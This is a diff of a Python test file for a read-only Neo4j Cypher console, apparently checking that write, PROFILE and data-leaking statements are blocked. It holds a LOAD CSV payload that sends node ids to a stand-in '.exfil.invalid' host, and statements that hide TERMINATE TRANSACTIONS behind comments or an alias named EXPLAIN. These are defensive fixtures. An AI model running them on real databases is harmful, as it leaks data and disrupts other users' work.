@@ -671,6 +671,11 @@ SERVER_COMMANDS = {
     "load_csv_dns": "MATCH (f:Firm) WITH f LIMIT 1 CALL { WITH f LOAD CSV FROM 'http://' + f.id + '.exfil.invalid/' "
                     "AS r RETURN r } RETURN r",
     "settings": "show settings yield name, value return name, value",
+    # a check that rewrote the text was run instead of planned (review): a PROFILE kept, options misread
+    "profile_after_a_comment": "// PROFILE\nPROFILE TERMINATE TRANSACTIONS 'neo4j-transaction-42'",
+    "explain_as_a_name": "CYPHER 5 SHOW TRANSACTIONS YIELD transactionId AS EXPLAIN, username "
+                         "TERMINATE TRANSACTIONS EXPLAIN YIELD message RETURN message",
+    "profile": "PROFILE MATCH (f:Firm) RETURN count(f) AS n",
 }
 
 
@@ -717,14 +722,17 @@ def test_console_keeps_reads_of_the_schema_search_and_plans():
     assert "LoadCSV" in console_refusal("rw", plan(("Create", "x"), ("LoadCSV", "row")))
 
 
-def test_console_runs_explain_profile_and_query_options(market_db):
+def test_console_runs_explain_comments_and_query_options(market_db):
     for statement in ("CALL db.labels()", "SHOW INDEXES YIELD name RETURN name",
-                      "EXPLAIN MATCH (f:Firm) RETURN f", "PROFILE MATCH (f:Firm) RETURN count(f) AS n",
-                      "// a comment\nPROFILE MATCH (f:Firm) RETURN count(f) AS n",
+                      "EXPLAIN MATCH (f:Firm) RETURN f", "// a comment\nMATCH (f:Firm) RETURN count(f) AS n",
+                      "/* PROFILE */ MATCH (f:Firm) RETURN count(f) AS n",
                       "CYPHER 5 MATCH (f:Firm) RETURN count(f) AS n",
                       "CALL db.index.fulltext.queryNodes('entity_search', 'Alpha') YIELD node RETURN node.id AS id"):
         keys, _, _ = market_db.run_read_only(statement)
         assert keys, statement
+    with pytest.raises(GraphError) as error:  # a typo reads as typed: no "EXPLAIN " the console put there
+        market_db.run_read_only("MATCH (f:Firm RETURN f")
+    assert '"MATCH (f:Firm RETURN f"' in str(error.value) and "column 15 (offset: 14)" in str(error.value)
 
 
 def test_console_free_cypher_takes_its_parameters_in_boxes(market_db, access_log):
